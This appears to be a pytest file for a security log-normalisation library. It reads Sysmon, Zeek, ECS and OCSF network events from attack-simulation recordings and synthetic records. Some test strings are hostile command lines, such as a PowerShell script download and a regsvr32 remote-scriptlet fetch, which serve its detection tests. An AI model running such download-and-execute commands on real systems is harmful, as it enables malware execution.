"""Readers on real recordings (tests/data, see its README) and hand-written edge cases."""
from __future__ import annotations

import gzip
import io
import json
import os
import re

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pytest

from raresketch._readers import ReadStats, read_events
from raresketch._readers._dns import command_line_url_host
from raresketch._readers._sysmon import dns_answer_ips, sha256_of
from raresketch.events import EVENT_SCHEMA, conform, empty_batch, normalize_domain, normalize_ip

DATA = os.path.join(os.path.dirname(__file__), "..", "data")
OTRF = os.path.join(DATA, "otrf", "sysmon_net_subset")
SHARED_OTRF = "/work/shared/data/otrf/sysmon_net_subset"
ZAT = os.path.join(DATA, "zeek-zat")
EVTX = os.path.join(DATA, "evtx-samples")


def read_all(src, **kw):
    st = kw.pop("stats", None) or ReadStats()
    tabs = list(read_events(src, stats=st, **kw))
    for t in tabs:
        assert t.schema == EVENT_SCHEMA
        assert t.num_rows > 0
    return (pa.concat_tables(tabs) if tabs else empty_batch()), st


def sorted_within(t: pa.Table) -> bool:
    ts = t.column("@timestamp").cast(pa.int64()).to_numpy()
    return bool(np.all(ts[1:] >= ts[:-1]))


# ------------------------------------------------------------------------------------------ OTRF Sysmon

@pytest.fixture(scope="module")
def otrf():
    return read_all(OTRF)


def test_otrf_all_7183_network_events(otrf):
    t, st = otrf
    assert len(os.listdir(OTRF)) == 110
    assert t.num_rows == 7183
    assert st.emitted == 7183
    # every other record is a context record (EID 1, 5, 7, 22), nothing is malformed
    # EID 22, 1, 7, 5 in flat/Azure shapes + EID 1, 7, 5 in Winlogbeat 6 shape
    assert st.skipped == {"not_network_event": 2059 + 1980 + 1953 + 1768 + 58 + 58 + 10}
    assert st.read == st.emitted + st.n_skipped
    assert st.files == 110


@pytest.mark.skipif(not os.path.isdir(SHARED_OTRF), reason="shared data not present")
def test_shared_otrf_matches_copy():
    t, st = read_all(SHARED_OTRF)
    assert t.num_rows == 7183


def test_otrf_shapes_and_fields(otrf):
    t, _ = otrf
    # Winlogbeat 6 shape (event_data): IT001.shire.com; Azure WindowsEvent shape: WORKSTATION5 with 7-digit fractions
    hosts = set(t.column("host.id").to_pylist())
    assert "it001.shire.com" in hosts and "mordordc.mordor.local" in hosts
    assert t.column("host.os.type").unique().to_pylist() == ["windows"]
    assert t.column("@timestamp").null_count == 0
    ports = t.column("destination.port")
    assert ports.null_count == 0
    # every domain has a source, every source has a domain
    dom_valid = pc.is_valid(t.column("destination.domain"))
    src_valid = pc.is_valid(t.column("raresketch.domain_source"))
    assert pc.all(pc.equal(dom_valid, src_valid)).as_py()
    assert set(t.column("raresketch.domain_source").drop_null().unique().to_pylist()) <= {"dns", "ptr", "event", "command_line"}
    names = t.column("process.name").drop_null().to_pylist()
    assert not any("unknown process" in n for n in names)
    # lower-cased, no trailing dot
    for d in t.column("destination.domain").drop_null().unique().to_pylist():
        assert d == d.lower() and not d.endswith(".")


def test_otrf_dns_enrichment_is_consistent_with_eid22(otrf):
    """Every name marked 'dns' must be a QueryName whose QueryResults hold that IP on the same host."""
    t, st = otrf
    answers = set()
    for f in os.listdir(OTRF):
        with gzip.open(os.path.join(OTRF, f)) as fh:
            for line in fh:
                d = json.loads(line)
                if "event_data" in d:
                    eid, host, data = d.get("event_id"), d.get("computer_name"), d["event_data"]
                elif "EventData" in d:
                    eid, host, data = d.get("EventID"), d.get("Computer"), json.loads(d["EventData"])
                else:
                    eid, host, data = d.get("EventID"), d.get("Hostname"), d
                if eid == 22 and data.get("QueryResults"):
                    for ip in dns_answer_ips(data["QueryResults"]):
                        answers.add((host.lower(), ip, data["QueryName"].lower().rstrip(".")))
    dns_rows = t.filter(pc.equal(t.column("raresketch.domain_source"), "dns"))
    assert dns_rows.num_rows == st.enriched["domain_dns"] > 1000
    for h, ip, name in zip(*(dns_rows.column(c).to_pylist() for c in ("host.id", "destination.ip", "destination.domain"))):
        assert (h, ip, name) in answers


def test_otrf_known_positive_wmic_xsl(otrf):
    t, _ = otrf
    w = t.filter(pc.equal(t.column("process.name"), "WMIC.exe"))
    rows = [r for r in w.to_pylist() if r["destination.domain"] == "raw.githubusercontent.com"]
    assert rows, "wmic_remote_xsl_jscript should connect to raw.githubusercontent.com"
    r = rows[0]
    assert "wmicscript.xsl" in r["process.command_line"]
    assert re.fullmatch(r"[0-9a-f]{64}", r["process.hash.sha256"])
    assert r["network.direction"] == "egress"


def test_otrf_process_join_and_signature(otrf):
    t, st = otrf
    assert st.enriched["process_create"] > 100 and st.enriched["signature"] > 100
    signed = t.filter(pc.is_valid(t.column("process.code_signature.subject_name")))
    assert signed.num_rows == st.enriched["signature"] or signed.num_rows > 0
    ex = signed.column("process.code_signature.exists").to_pylist()
    tr = signed.column("process.code_signature.trusted").to_pylist()
    assert all(e is True for e in ex)
    assert all(v in (True, False) for v in tr)
    # without an EID 1/7 the signer stays unknown (null), never "unsigned"
    assert t.column("process.code_signature.exists").null_count > 5000


def test_otrf_batches_sorted_and_sized():
    st = ReadStats()
    tabs = list(read_events(OTRF, batch_size=500, stats=st))
    assert sum(t.num_rows for t in tabs) == 7183
    assert all(t.num_rows <= 500 for t in tabs)
    assert all(sorted_within(t) for t in tabs)


# ------------------------------------------------------------------------------------------ evtx

def test_evtx_sysmon_counts_corrupt_records():
    t, st = read_all(os.path.join(EVTX, "sysmon.evtx"))
    assert t.num_rows == 2
    assert st.skipped["evtx_unreadable"] == 8
    assert st.skipped["not_network_event"] >= 227
    assert set(t.column("process.name").to_pylist()) == {"installer.exe"}
    assert st.enriched["process_create"] == 2
    assert t.column("process.hash.sha256").null_count == 0
    assert t.column("host.id").to_pylist() == ["desktop-2kgm189"] * 2


def test_evtx_bad_chunk_does_not_stop():
    t, st = read_all(os.path.join(EVTX, "sample_with_a_bad_chunk_magic.evtx"))
    assert t.num_rows == 0
    assert st.skipped["evtx_unreadable"] >= 1
    assert st.read > 200  # the readable chunks were all read


def test_evtx_forced_format_and_garbage_file(tmp_path):
    t, _ = read_all(os.path.join(EVTX, "sysmon.evtx"), format="sysmon")
    assert t.num_rows == 2
    p = tmp_path / "x.evtx"
    p.write_bytes(b"not an evtx file at all" * 10)
    with pytest.raises(ValueError):
        read_all(str(p))


# ------------------------------------------------------------------------------------------ Zeek

def _zeek_dns_answers(path):
    out = set()
    fields = None
    for line in open(path):
        if line.startswith("#fields"):
            fields = line.rstrip("\n").split("\t")[1:]
        elif not line.startswith("#"):
            d = dict(zip(fields, line.rstrip("\n").split("\t")))
            for a in d["answers"].split(","):
                out.add((d["id.orig_h"], a, d["query"].lower()))
    return out


def test_zeek_tsv_directory_joins():
    t, st = read_all(ZAT)
    assert t.num_rows == 360  # conn.log data lines
    assert st.enriched["zeek_http"] == 61 and st.enriched["domain_dns"] == 45
    assert t.column("process.name").null_count == t.num_rows
    assert pc.all(pc.equal(t.column("host.id"), t.column("source.ip"))).as_py()
    answers = _zeek_dns_answers(os.path.join(ZAT, "dns.log"))
    dns = t.filter(pc.equal(t.column("raresketch.domain_source"), "dns"))
    for h, ip, name in zip(*(dns.column(c).to_pylist() for c in ("host.id", "destination.ip", "destination.domain"))):
        assert (h, ip, name) in answers
    assert sorted_within(t)


def test_zeek_tsv_single_file_same_as_directory():
    a, _ = read_all(os.path.join(ZAT, "conn.log"))
    b, _ = read_all(ZAT)
    assert a.equals(b)
    c, st = read_all(os.path.join(ZAT, "conn.log"), join_siblings=False)
    assert c.num_rows == 360 and c.column("destination.domain").null_count == 360


def test_zeek_json_and_combined():
    t, st = read_all(os.path.join(ZAT, "json"))
    assert t.num_rows == 50 and st.enriched["zeek_ssl"] == 4
    t2, st2 = read_all(os.path.join(DATA, "otrf", "zeek", "apt29_day1", "combined_zeek.log.gz"))
    assert t2.num_rows == 613  # @stream == conn
    assert st2.enriched["zeek_ssl"] == 376
    assert st2.read == 2140


# ------------------------------------------------------------------------------------------ ECS

def ecs(**over):
    d = {"@timestamp": "2024-05-01T10:00:00.123456Z", "host": {"id": "H1", "name": "WS1"},
         "process": {"name": "curl.exe", "executable": "C:\\Tools\\curl.exe", "pid": 42,
                     "code_signature": {"subject_name": "cURL", "trusted": True, "exists": True}},
         "destination": {"ip": "52.216.1.1", "port": 443, "domain": "MyBucket.S3.us-west-2.amazonaws.com."},
         "network": {"transport": "TCP", "direction": "outbound"}, "event": {"category": ["network"]}}
    d.update(over)
    return d


def lines(*objs) -> bytes:
    return b"".join((o if isinstance(o, bytes) else json.dumps(o).encode()) + b"\n" for o in objs)


def test_ecs_nested_dotted_mixed():
    dotted = {"@timestamp": 1714557600123, "host.id": "H2", "process.name": "a.exe", "destination.ip": "::ffff:1.2.3.4",
              "destination.port": "8443", "event.category": "network"}
    mixed = {"@timestamp": "2024-05-01 10:00:01", "host": {"id": "H3"}, "process.name": "b.exe",
             "destination": {"address": "evil.example"}, "event": {"category": "network"}}
    t, st = read_all(io.BytesIO(lines(ecs(), dotted, mixed)))
    assert t.num_rows == 3 and st.n_skipped == 0
    rows = {r["host.id"]: r for r in t.to_pylist()}
    r1 = rows["H1"]
    assert r1["destination.domain"] == "mybucket.s3.us-west-2.amazonaws.com"
    assert r1["raresketch.domain_source"] == "event"
    assert r1["network.transport"] == "tcp" and r1["network.direction"] == "egress"
    assert r1["process.code_signature.trusted"] is True and r1["process.pid"] == 42
    assert r1["@timestamp"].isoformat() == "2024-05-01T10:00:00.123456+00:00"
    assert rows["H2"]["destination.ip"] == "1.2.3.4" and rows["H2"]["destination.port"] == 8443
    assert rows["H2"]["@timestamp"].isoformat() == "2024-05-01T10:00:00.123000+00:00"
    assert rows["H3"]["destination.domain"] == "evil.example"
    assert rows["H3"]["@timestamp"].isoformat() == "2024-05-01T10:00:01+00:00"


def test_ecs_bad_records_counted_and_stream_continues():
    data = lines(
        ecs(),
        b"{not json",
        b"[1, 2, 3]",
        b"",
        b"   ",
        ecs(**{"@timestamp": None}),
        ecs(**{"@timestamp": "yesterday"}),
        ecs(host={"name": None}),
        ecs(event={"category": ["process"]}),
        ecs(destination={"port": 1}),
        json.dumps(ecs(process={"name": "caf\u00e9.exe"})).encode().replace("caf\\u00e9".encode(), b"caf\xe9"),
        ecs(),
    )
    t, st = read_all(io.BytesIO(data))
    assert st.skipped == {"malformed_json": 1, "not_an_object": 1, "missing_timestamp": 1, "bad_timestamp": 1,
                          "missing_host": 1, "not_network_event": 1, "no_destination": 1}
    assert st.repaired == {"undecodable_bytes": 1}
    assert t.num_rows == 3
    assert "caf\ufffd.exe" in t.column("process.name").to_pylist()
    assert st.read == 10  # blank lines are not records


def test_ecs_gzip_and_empty(tmp_path):
    p = tmp_path / "events.json.gz"
    p.write_bytes(gzip.compress(lines(*(ecs(host={"id": f"h{i}"}) for i in range(5)))))
    t, st = read_all(str(p))
    assert t.num_rows == 5 and st.files == 1
    e = tmp_path / "empty.json"
    e.write_bytes(b"")
    t, st = read_all(str(e))
    assert t.num_rows == 0 and st.read == 0
    g = tmp_path / "empty.json.gz"
    g.write_bytes(gzip.compress(b""))
    assert read_all(str(g))[0].num_rows == 0


def test_ecs_batches_sorted_by_time():
    objs = [ecs(**{"@timestamp": f"2024-05-01T10:00:{s:02d}Z"}) for s in (5, 3, 9, 1, 7, 2)]
    tabs = list(read_events(io.BytesIO(lines(*objs)), batch_size=4))
    assert [t.num_rows for t in tabs] == [4, 2]
    assert all(sorted_within(t) for t in tabs)


# ------------------------------------------------------------------------------------------ Sysmon edge cases

def sysmon(eid, **fields):
    base = {"EventID": eid, "Hostname": "PC1.corp.local", "SourceName": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational"}
    base.update(fields)
    return base


G = "{11111111-2222-3333-4444-555555555555}"


def test_sysmon_dns_beats_reverse_lookup_and_joins():
    recs = [
        sysmon(1, UtcTime="2024-01-01 10:00:00.000", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               CommandLine="x.exe -u https://a.example/p", ParentImage="C:\\Windows\\explorer.exe",
               OriginalFileName="svchost.exe",
               Hashes="SHA1=AA,MD5=BB,SHA256=" + "AB" * 32 + ",IMPHASH=CC"),
        sysmon(7, UtcTime="2024-01-01 10:00:00.100", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               ImageLoaded="C:\\Users\\bob\\AppData\\x.exe", Signed="true", Signature="Evil Corp",
               SignatureStatus="Expired"),
        sysmon(22, UtcTime="2024-01-01 10:00:01.000", ProcessGuid=G, QueryName="MyBucket.s3.amazonaws.com",
               QueryStatus="0", QueryResults="type:  5 s3-1-w.amazonaws.com;::ffff:52.216.1.1;"),
        sysmon(3, UtcTime="2024-01-01 10:00:02.000", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               ProcessId="99", DestinationIp="52.216.1.1", DestinationPort="443", Protocol="tcp", Initiated="true",
               DestinationHostname="s3-1-w.amazonaws.com"),
        # no DNS for this IP: the reverse lookup loses to the command-line URL
        sysmon(3, UtcTime="2024-01-01 10:00:03.000", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               DestinationIp="52.216.9.9", DestinationPort="443", DestinationHostname="s3-9.amazonaws.com"),
        # nothing known: the one command-line URL host is inferred
        sysmon(3, UtcTime="2024-01-01 10:00:04.000", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               DestinationIp="93.184.216.34", DestinationPort="443", DestinationHostname="-"),
        # internal destination: no inference
        sysmon(3, UtcTime="2024-01-01 10:00:05.000", ProcessGuid=G, Image="C:\\Users\\bob\\AppData\\x.exe",
               DestinationIp="10.1.2.3", DestinationPort="445"),
        # DNS answer is too old (2 h before): not used
        sysmon(3, UtcTime="2024-01-01 12:00:02.000", ProcessGuid="{99999999-2222-3333-4444-555555555555}",
               Image="C:\\x\\y.exe", DestinationIp="52.216.1.1", DestinationPort="443"),
    ]
    t, st = read_all(io.BytesIO(lines(*recs)), format="sysmon")
    rows = t.to_pylist()
    # Sysmon's DestinationHostname is a reverse lookup ("ptr"): the command-line URL (inferred) beats it
    assert [r["raresketch.domain_source"] for r in rows] == ["dns", "command_line", "command_line", None, None]
    assert rows[0]["destination.domain"] == "mybucket.s3.amazonaws.com"
    assert rows[1]["destination.domain"] == "a.example"
    assert rows[2]["destination.domain"] == "a.example"
    r = rows[0]
    assert r["process.hash.sha256"] == "ab" * 32
    assert r["process.code_signature.subject_name"] == "Evil Corp"
    assert r["process.code_signature.exists"] is True and r["process.code_signature.trusted"] is False
    assert r["process.pe.original_file_name"] == "svchost.exe"
    assert r["process.parent.name"] == "explorer.exe" and r["process.pid"] == 99
    assert r["process.entity_id"] == G.strip("{}")
    assert rows[4]["process.hash.sha256"] is None  # other process: nothing joined
    assert st.enriched["domain_dns"] == 1 and st.enriched["domain_command_line"] == 2
    # prefer_dns=False keeps Sysmon's own hostname
    t2, _ = read_all(io.BytesIO(lines(*recs)), format="sysmon", prefer_dns=False)
    assert t2.column("raresketch.domain_source").to_pylist()[0] == "ptr"


def test_sysmon_other_shapes_and_channels():
    wlb7 = {"@timestamp": "2024-01-01T10:00:00Z", "winlog": {"event_id": "3", "computer_name": "PC2",
            "provider_name": "Microsoft-Windows-Sysmon",
            "event_data": {"UtcTime": "2024-01-01 10:00:00.500", "Image": "C:\\a.exe", "DestinationIp": "1.1.1.1",
                           "DestinationPort": "53", "Protocol": "udp"}}}
    other = {"EventID": 4624, "Hostname": "PC1", "SourceName": "Microsoft-Windows-Security-Auditing"}
    no_host = sysmon(3, UtcTime="2024-01-01 10:00:00.000", DestinationIp="1.1.1.1")
    no_host.pop("Hostname")
    no_time = sysmon(3, DestinationIp="1.1.1.1")
    t, st = read_all(io.BytesIO(lines(wlb7, other, no_host, no_time)))
    assert t.num_rows == 1 and t.column("host.id").to_pylist() == ["pc2"]
    assert st.skipped == {"not_network_event": 1, "missing_host": 1, "missing_timestamp": 1}


def test_sysmon_helpers():
    assert sha256_of("SHA1=X,SHA256=ABCD,IMPHASH=Y") == "abcd"
    assert sha256_of("MD5=X") is None and sha256_of(None) is None
    assert dns_answer_ips("type:  5 a.b;::ffff:1.2.3.4;2001:DB8::1;") == ["1.2.3.4", "2001:db8::1"]
    assert command_line_url_host('powershell iwr https://raw.githubusercontent.com/x/y.ps1 -o a') == "raw.githubusercontent.com"
    assert command_line_url_host("x http://a.example/1 http://A.example/2") == "a.example"
    assert command_line_url_host("x http://a.example/1 https://b.example/2") is None
    assert command_line_url_host("regsvr32 /i:http://10.10.10.5:8444/launcher.sct") is None
    assert command_line_url_host("no url here") is None


# ------------------------------------------------------------------------------------------ OCSF

def test_ocsf_network_activity():
    rec = {"class_uid": 4001, "category_uid": 4, "activity_id": 1, "time": 1714557600000,
           "device": {"hostname": "WS9", "uid": "dev-9", "os": {"type": "Windows"}},
           "actor": {"process": {"name": "pwsh.exe", "pid": 7, "cmd_line": "pwsh -c iwr",
                                 "file": {"path": "C:\\p\\pwsh.exe", "hashes": [{"algorithm_id": 3, "value": "AA" * 32}],
                                          "signature": {"certificate": {"subject": "Microsoft Corporation"}, "state_id": 1}},
                                 "parent_process": {"name": "cmd.exe", "file": {"path": "C:\\w\\cmd.exe"}}},
                     "user": {"name": "bob"}},
           "dst_endpoint": {"ip": "149.154.167.99", "port": 443, "hostname": "api.telegram.org"},
           "src_endpoint": {"ip": "10.0.0.5", "port": 50000},
           "connection_info": {"protocol_name": "TCP", "direction_id": 2}}
    other = dict(rec, class_uid=4003)
    t, st = read_all(io.BytesIO(lines(rec, other)))
    assert st.skipped == {"wrong_ocsf_class": 1}
    r = t.to_pylist()[0]
    assert r["host.id"] == "dev-9" and r["host.os.type"] == "windows"
    assert r["process.hash.sha256"] == "aa" * 32 and r["process.code_signature.trusted"] is True
    assert r["destination.domain"] == "api.telegram.org" and r["network.direction"] == "egress"
    assert r["@timestamp"].isoformat() == "2024-05-01T10:00:00+00:00"


# ------------------------------------------------------------------------------------------ tabular

@pytest.fixture(scope="module")
def sample(otrf):
    return otrf[0].slice(0, 300)


def test_parquet_arrow_csv_roundtrip(tmp_path, sample):
    import pyarrow.csv as pcsv
    import pyarrow.feather as feather
    import pyarrow.parquet as pq

    pq.write_table(sample, tmp_path / "e.parquet")
    feather.write_feather(sample, tmp_path / "e.arrow")
    pcsv.write_csv(sample, tmp_path / "e.csv")
    want = conform(sample)
    for name in ("e.parquet", "e.arrow", "e.csv"):
        t, st = read_all(str(tmp_path / name), batch_size=128)
        assert st.emitted == 300 and st.n_skipped == 0, name
        key = [("@timestamp", "ascending"), ("host.id", "ascending"), ("source.port", "ascending"),
               ("destination.ip", "ascending")]
        assert t.sort_by(key).to_pylist() == want.sort_by(key).to_pylist(), name
    t, _ = read_all(sample)
    assert t.num_rows == 300


def test_arrow_table_with_bad_rows():
    tab = pa.table({"@timestamp": ["2024-01-01T00:00:00Z", None, "garbage", "2024-01-01T00:00:01Z"],
                    "host.id": ["a", "b", "c", None], "destination.domain": ["X.Example.", None, None, None]})
    t, st = read_all(tab)
    assert t.num_rows == 1 and st.skipped == {"missing_timestamp": 1, "bad_timestamp": 1, "missing_host": 1}
    assert t.column("destination.domain").to_pylist() == ["x.example"]
    with pytest.raises(ValueError, match="host.id"):
        list(read_events(pa.table({"@timestamp": ["2024-01-01T00:00:00Z"]})))


def test_read_events_argument_errors(tmp_path):
    with pytest.raises(ValueError):
        list(read_events(io.BytesIO(b""), format="nope"))
    with pytest.raises(ValueError):
        list(read_events(io.BytesIO(b""), batch_size=0))
    with pytest.raises(FileNotFoundError):
        list(read_events(str(tmp_path / "missing.json")))


# ------------------------------------------------------------------------------------------ events helpers

def test_normalizers_and_conform():
    assert normalize_domain(" WWW.Example.COM. ") == "www.example.com"
    assert normalize_domain("bücher.example") == "xn--bcher-kva.example"
    assert normalize_domain("-") is None and normalize_domain("") is None
    assert normalize_ip("::FFFF:10.0.0.1") == "10.0.0.1"
    assert normalize_ip("2001:0DB8:0000::1") == "2001:db8::1"
    assert normalize_ip("[fe80::1%eth0]") == "fe80::1"
    assert normalize_ip("not-an-ip") is None
    t = conform(pa.table({"@timestamp": pa.array([0], pa.timestamp("us", tz="UTC")), "host.id": ["h"],
                          "destination.ip": ["::ffff:8.8.8.8"], "process.executable": ["/usr/bin/python3"],
                          "process.pid": ["12"], "extra": [1]}))
    assert t.schema == EVENT_SCHEMA
    r = t.to_pylist()[0]
    assert r["destination.ip"] == "8.8.8.8" and r["process.name"] == "python3" and r["process.pid"] == 12
    assert r["raresketch.domain_source"] is None
    assert empty_batch().schema == EVENT_SCHEMA and empty_batch().num_rows == 0


def test_ecs_dotted_keys_inside_nested_objects():
    rec = {"@timestamp": "2024-05-01T10:00:00Z", "host": {"hostname": "WS-7"},
           "process": {"code_signature.subject_name": "Acme", "parent.name": "cmd.exe", "name": "a.exe"},
           "destination": {"ip": "1.2.3.4"}, "url.domain": "X.example"}
    t, st = read_all(io.BytesIO(lines(rec)), format="ecs")
    r = t.to_pylist()[0]
    assert r["host.id"] == "ws-7"
    assert r["process.code_signature.subject_name"] == "Acme" and r["process.parent.name"] == "cmd.exe"
    assert r["destination.domain"] == "x.example" and r["raresketch.domain_source"] == "event"


def _endpoint_doc(i: int) -> dict:
    return {"@timestamp": f"2024-03-01T10:00:{i:02d}.000Z", "ecs": {"version": "8.10.0"},
            "event": {"category": ["network"], "kind": "event", "module": "endpoint"},
            "host": {"id": f"h{i % 3}", "name": f"pc{i % 3}"},
            "process": {"executable": "C:\\\\Windows\\\\System32\\\\svchost.exe", "name": "svchost.exe", "pid": 4},
            "destination": {"ip": "52.95.110.1", "port": 443, "domain": f"b{i}.s3.amazonaws.com"}}


def _winlogbeat_sysmon_doc(i: int) -> dict:
    d = _endpoint_doc(i)
    d["ecs"] = {"version": "1.12.0"}
    d["event"] = {"category": ["network"], "code": "3", "module": "sysmon"}
    d["winlog"] = {"channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon",
                   "event_id": "3", "event_data": {"Image": d["process"]["executable"], "ProcessId": "4",
                                                   "DestinationIp": "52.95.110.1", "DestinationPort": "443",
                                                   "UtcTime": f"2024-03-01 10:00:{i:02d}.000",
                                                   "DestinationHostname": f"b{i}.s3.amazonaws.com"}}
    return d


def test_auto_reads_an_elastic_index_mixing_endpoint_and_winlogbeat_sysmon_as_ecs(tmp_path):
    """Mostly Endpoint documents with some Winlogbeat-Sysmon ones: every event is read (the Sysmon reader would
    drop the Endpoint lines); a Winlogbeat-Sysmon-only file still goes to the Sysmon reader."""
    from raresketch._readers import Source, detect_format

    mixed = tmp_path / "mixed.json"
    docs = [_winlogbeat_sysmon_doc(i) if i % 10 == 0 else _endpoint_doc(i) for i in range(30)]
    mixed.write_text("\n".join(json.dumps(d) for d in docs) + "\n")
    stats = ReadStats()
    got = pa.concat_tables(read_events(str(mixed), stats=stats))
    assert got.num_rows == 30 and stats.skipped == {}
    assert sorted(got.column("destination.domain").to_pylist()) == sorted(f"b{i}.s3.amazonaws.com" for i in range(30))
    only = tmp_path / "wlb.json"
    only.write_text("\n".join(json.dumps(_winlogbeat_sysmon_doc(i)) for i in range(5)) + "\n")
    assert detect_format(Source(str(only))) == "sysmon"
